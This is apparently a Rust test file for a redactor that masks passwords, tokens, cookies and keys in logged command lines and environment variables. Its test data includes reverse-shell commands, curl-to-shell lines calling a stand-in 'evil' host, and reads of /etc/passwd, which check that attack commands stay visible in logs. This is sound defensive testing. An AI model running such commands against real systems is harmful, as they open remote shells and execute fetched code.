//! Command lines with secrets, and some that only look like it.

use proptest::prelude::*;

use super::*;

fn redacted(args: &[&str]) -> Vec<String> {
    words(&Redactor::default(), args)
}

/// Arguments, and how they are shown.
const CASES: &[(&[&str], &[&str])] = &[
    (
        &["x", "--password=a b", "y"],
        &["x", "--password=[REDACTED]", "y"],
    ),
    (
        &["x", "--password", "a b", "y"],
        &["x", "--password", "[REDACTED]", "y"],
    ),
    (
        &["env", "PGPASSWORD=x", "psql"],
        &["env", "PGPASSWORD=[REDACTED]", "psql"],
    ),
    (
        &["mysql", "-uroot", "-psecret", "shop"],
        &["mysql", "-uroot", "-p[REDACTED]", "shop"],
    ),
    (&["mysql", "-p", "shop"], &["mysql", "-p", "shop"]),
    (
        &["sh", "-c", "mysqldump -u root -ps3cret shop | gzip"],
        &["sh", "-c", "mysqldump -u root -p[REDACTED] shop | gzip"],
    ),
    (
        &["curl", "-H", "Authorization: Bearer abc", "http://h/"],
        &[
            "curl",
            "-H",
            "Authorization: Bearer [REDACTED]",
            "http://h/",
        ],
    ),
    (
        &["curl", "https://bob:hunter2@host/x"],
        &["curl", "https://bob:[REDACTED]@host/x"],
    ),
    (
        &["curl", "-u", "bob:hunter2", "h"],
        &["curl", "-u", "bob:[REDACTED]", "h"],
    ),
    (
        &["sshpass", "-p", "x", "ssh", "h"],
        &["sshpass", "-p", "[REDACTED]", "ssh", "h"],
    ),
    (
        &["redis-cli", "-a", "x", "get"],
        &["redis-cli", "-a", "[REDACTED]", "get"],
    ),
    (&["aws", "AKIAIOSFODNN7EXAMPLE"], &["aws", "[REDACTED]"]),
    (
        &["sh", "-c", "export API_KEY='abc'; id"],
        &["sh", "-c", "export API_KEY='[REDACTED]'; id"],
    ),
    (
        &["sh", "-c", "PGPASSWORD='two words' psql --token \"a b\" x"],
        &[
            "sh",
            "-c",
            "PGPASSWORD='[REDACTED]' psql --token \"[REDACTED]\" x",
        ],
    ),
    (
        &["sh", "-c", "password=x; nc -e /bin/sh 10.0.0.1 4444"],
        &[
            "sh",
            "-c",
            "password=[REDACTED]; nc -e /bin/sh 10.0.0.1 4444",
        ],
    ),
    (
        &["curl", "-H", "Cookie: a=b; c=d", "-H", "X-Api-Key: k", "h"],
        &[
            "curl",
            "-H",
            "Cookie: [REDACTED]",
            "-H",
            "X-Api-Key: [REDACTED]",
            "h",
        ],
    ),
    (
        &["sh", "-c", "echo cookie: authorization: ; nc -e /bin/sh h"],
        &["sh", "-c", "echo cookie: authorization: ; nc -e /bin/sh h"],
    ),
    (
        &["app", "{\"token\": \"abc\"}"],
        &["app", "{\"token\": \"[REDACTED]\"}"],
    ),
    (
        &["x", "user=1&password=2&z=3"],
        &["x", "user=1&password=[REDACTED]&z=3"],
    ),
    (
        &[
            "sh",
            "-c",
            "echo '-----BEGIN EC PRIVATE KEY-----\nMHQCAQ\n-----END' > k",
        ],
        &[
            "sh",
            "-c",
            "echo '-----BEGIN EC PRIVATE KEY-----[REDACTED]-----END' > k",
        ],
    ),
    (
        &["git", "clone", "ghp_0123456789abcdefghijABCDEFGHIJ"],
        &["git", "clone", "[REDACTED]"],
    ),
    // Of programs: each option, whatever stands before it, to the end of the argument.
    (
        &["mysql", "-h", "db", "-P3306", "-psecret", "-e", "a; b"],
        &["mysql", "-h", "db", "-P3306", "-p[REDACTED]", "-e", "a; b"],
    ),
    (
        &["mysql", "-e", "a; b", "-psec;ret"],
        &["mysql", "-e", "a; b", "-p[REDACTED]"],
    ),
    (
        &[
            "curl",
            "http://h/?a=1&b=2",
            "-u",
            "bob:two words",
            "--proxy-user=px:s2",
        ],
        &[
            "curl",
            "http://h/?a=1&b=2",
            "-u",
            "bob:[REDACTED]",
            "--proxy-user=px:[REDACTED]",
        ],
    ),
    (
        &["curl", "-u", "John Doe:secret", "-b", "sid=abc", "h"],
        &["curl", "-u", "John Doe:[REDACTED]", "-b", "[REDACTED]", "h"],
    ),
    (
        &["env", "x=1", "sshpass", "-p", "a b", "ssh", "h"],
        &["env", "x=1", "sshpass", "-p", "[REDACTED]", "ssh", "h"],
    ),
    (
        &["smbclient", "-U", "u%p w", "//h/s"],
        &["smbclient", "-U", "u%[REDACTED]", "//h/s"],
    ),
    (
        &[
            "sh",
            "-c",
            "mysql -p'two words' -h x; curl -u a:'b c' -U d:e h | id",
        ],
        &[
            "sh",
            "-c",
            "mysql -p'[REDACTED]' -h x; curl -u a:[REDACTED] -U d:[REDACTED] h | id",
        ],
    ),
    // Headers.
    (
        &["wget", "--header=Cookie: sid=abc; t=1", "h"],
        &["wget", "--header=Cookie: [REDACTED]", "h"],
    ),
    (
        &["curl", "-HAuthorization: ApiKey abc123", "h"],
        &["curl", "-HAuthorization: ApiKey [REDACTED]", "h"],
    ),
    (
        &[
            "sh",
            "-c",
            "curl -H 'Cookie: a=b; c=d' -d \"{\\\"password\\\":\\\"hunter2\\\"}\" h",
        ],
        &[
            "sh",
            "-c",
            "curl -H 'Cookie: [REDACTED]' -d \"{\\\"password\\\":\\\"[REDACTED]\"}\" h",
        ],
    ),
    (
        &[
            "git",
            "clone",
            "https://0123456789abcdef0123@h/x",
            "https://bob:p@ss@h/x",
        ],
        &[
            "git",
            "clone",
            "https://[REDACTED]@h/x",
            "https://bob:[REDACTED]@h/x",
        ],
    ),
];

/// Lines that call a command a secret: it is shown all the same.
const HIDDEN: &[&[&str]] = &[
    &["sh", "-c", "pass=\"$(curl http://evil/x|sh)\""],
    &["sh", "-c", "pass=`curl http://evil/x|sh`"],
    &["sh", "-c", "cookie: ; curl http://evil/x"],
    &[
        "sh",
        "-c",
        "echo -----BEGIN PRIVATE KEY-----; curl http://evil/x",
    ],
    &["sh", "-c", "--", "--token=x;curl http://evil/x"],
    &["bash", "-c", "eval \"$1\"", "--token", "curl http://evil/x"],
    &["--token", "-c", "curl http://evil/x"],
    &["sh", "-c", "authorization: x;curl http://evil/x"],
    &["wget", "-b", "http://evil/x"],
];

#[test]
fn nobody_hides_a_command_by_calling_it_a_secret() {
    for args in HIDDEN {
        let shown = redacted(args).join(" ");
        assert!(shown.contains("http://evil/x"), "{args:?}: {shown}");
    }
}

#[test]
fn the_end_of_arguments_hangs_on_their_beginning() {
    let args = Args {
        head: vec!["mysql".into(), "-h".into()],
        tail: vec!["b".into(), "-psecret".into()],
        argc: 9,
        truncated: true,
        ..Args::default()
    };
    let program = Arc::new(Program {
        args,
        ..Program::default()
    });
    let (clean, replaced) = Redactor::default().program(&program);
    let args = &clean.unwrap().args;
    assert_eq!(
        (args.tail[1].to_string().as_str(), replaced),
        ("-p[REDACTED]", 1)
    );
    assert!(Redactor::default().is_secret(&program.args));
}

#[test]
fn a_pattern_that_takes_the_name_of_a_variable_leaves_nothing_of_its_value() {
    let program = Arc::new(Program {
        env: vec![("QUERY_STRING".into(), "cmd=id".into())],
        ..Program::default()
    });
    let redactor = Redactor::new(&["QUERY_STRING=.*".to_owned()]).unwrap();
    let (clean, _) = redactor.program(&program);
    assert_eq!(clean.unwrap().env[0].1, "[REDACTED]");
}

#[test]
fn what_a_pattern_finds_in_marks_is_left_and_nothing_grows() {
    let patterns = ["[0-9a-f]{4}", "[A-Z]{4}", r"\w", "."].map(str::to_owned);
    let redactor = Redactor::new(&patterns)
        .unwrap()
        .with_key(Key::random().unwrap());
    let long = "deadbeef ".repeat(2_000);
    let once = words(&redactor, &["app", &long, "x"]);
    let again: Vec<&str> = once.iter().map(String::as_str).collect();
    assert_eq!(words(&redactor, &again), once);
    assert!(once.iter().all(|arg| arg.len() == 19), "{once:?}");
}

#[test]
fn secrets_go_and_their_surroundings_stay() {
    for &(args, expected) in CASES {
        assert_eq!(redacted(args), expected, "{args:?}");
    }
}

#[test]
fn what_is_no_secret_stays() {
    for args in [
        &["sh", "-c", "id; cat /etc/passwd"][..],
        &["php-fpm: pool www"],
        &["nginx", "-c", "/etc/nginx/nginx.conf", "-p", "/srv"],
        &["python3", "-c", "print('pass')"],
        &["mkdir", "-p", "/tmp/x"],
        &["curl", "http://host:8080/x"],
        &[
            "kubeadm",
            "--tokens-file",
            "/etc/x",
            "--private-key-path",
            "/etc/x.pem",
        ],
        &["bash", "-i", ">&", "/dev/tcp/10.0.0.1/4444"],
    ] {
        assert_eq!(redacted(args), args);
    }
}

#[test]
fn the_request_of_a_cgi_program_is_cleaned_too() {
    let program = Arc::new(Program {
        env: vec![
            ("QUERY_STRING".into(), "cmd=id&password=x".into()),
            ("REQUEST_METHOD".into(), "GET".into()),
        ],
        ..Program::default()
    });
    let (clean, replaced) = Redactor::default().program(&program);
    let clean = clean.unwrap();
    assert_eq!(
        (replaced, clean.env[0].1.to_string().as_str()),
        (1, "cmd=id&password=[REDACTED]")
    );
    assert_eq!(clean.env[1], program.env[1]);
    assert_eq!(Redactor::default().program(&clean).1, 0, "twice is once");
}

fn keyed() -> Redactor {
    Redactor::default().with_key(Key::random().unwrap())
}

fn words(redactor: &Redactor, args: &[&str]) -> Vec<String> {
    let args = Args {
        head: args.iter().map(|&arg| arg.into()).collect(),
        argc: u32::try_from(args.len()).unwrap(),
        ..Args::default()
    };
    redactor.words(&args)
}

#[test]
fn the_same_secret_has_the_same_mark_under_one_key() {
    let (one, other) = (keyed(), keyed());
    let first = words(&one, &["mysql", "-phunter2"]);
    let mark = first[1].strip_prefix("-p").unwrap();
    assert!(mark.starts_with("[REDACTED#") && mark.len() == 19, "{mark}");
    let again = words(&one, &["curl", "https://bob:hunter2@host/"]);
    assert_eq!(again[1], format!("https://bob:{mark}@host/"));
    assert_ne!(words(&one, &["mysql", "-phunter3"])[1], first[1]);
    assert_ne!(words(&other, &["mysql", "-phunter2"])[1], first[1]);
    // A recording has the marks; who replays it has another key, or none.
    let replayed: Vec<&str> = first.iter().map(String::as_str).collect();
    assert_eq!(words(&other, &replayed), first);
    assert_eq!(words(&Redactor::default(), &replayed), first);
}

#[test]
fn a_configuration_says_what_else_is_secret() {
    let patterns = [r"CUST-[0-9]{6}", r"--pin[\s\x00](?<secret>\d+)"].map(String::from);
    let redactor = Redactor::new(&patterns).unwrap();
    assert_eq!(
        words(
            &redactor,
            &["app", "CUST-123456/x", "--pin", "0815", "--password=x"]
        ),
        [
            "app",
            "[REDACTED]/x",
            "--pin",
            "[REDACTED]",
            "--password=[REDACTED]"
        ]
    );
    // What takes the end of an argument for part of a secret leaves it where it is.
    let redactor = Redactor::new(&[r"a[\s\S]*z".to_owned()]).unwrap();
    assert_eq!(
        words(&redactor, &["xa", "b", "", "zy"]),
        ["x[REDACTED]", "[REDACTED]", "", "[REDACTED]y"]
    );
}

#[test]
fn patterns_that_cannot_be_used_are_refused() {
    let refused = |patterns: &[String]| check(patterns).unwrap_err().to_string();
    assert!(refused(&["(".to_owned()]).contains("`(`: "));
    assert!(refused(&["x*".to_owned()]).contains("matches empty text"));
    assert!(refused(&["(a{1000}){1000}".to_owned()]).contains("size"));
    assert!(refused(&["x".repeat(PATTERN_MAX + 1)]).contains("512 bytes"));
    assert!(refused(&vec!["x".to_owned(); PATTERNS_MAX + 1]).contains("64 patterns"));
    assert_eq!(check(&vec![r"\w{8}".to_owned(); PATTERNS_MAX]), Ok(()));
}

#[test]
fn showing_all_shows_and_still_writes_nothing_down() {
    let redactor = Redactor::default().showing_all(true);
    assert_eq!(words(&redactor, &["mysql", "-psecret"])[1], "-psecret");
    let args = Args {
        head: vec!["mysql".into(), "-psecret".into()],
        ..Args::default()
    };
    assert!(redactor.is_secret(&args));
    let program = Arc::new(Program {
        args,
        ..Program::default()
    });
    assert_eq!(redactor.program(&program).1, 1);
}

proptest! {
    /// Arguments of anything, some of which look like secrets.
    #[test]
    fn arguments_stay_as_many_and_twice_is_once(
        args in prop::collection::vec(
            prop_oneof![
                "[^\u{0}]{0,40}",
                "(--)?(password|token|x)[= :]?[^\u{0}]{0,20}",
                "(mysql|curl|redis-cli|sshpass|-p|-u|-a|a:b|\\[REDACTED#[0-9a-f]{0,9}\\]?)",
            ],
            0..12,
        ),
        configured in any::<bool>(),
    ) {
        let patterns = ["[0-9a-f]{4}", "b:[^\\x00]*", "a[\\s\\S]{2}"].map(str::to_owned);
        let redactor = if configured {
            Redactor::new(&patterns).unwrap().with_key(Key::random().unwrap())
        } else {
            keyed()
        };
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let once = words(&redactor, &args);
        prop_assert_eq!(once.len(), args.len());
        let again: Vec<&str> = once.iter().map(String::as_str).collect();
        prop_assert_eq!(words(&redactor, &again), once);
    }
}
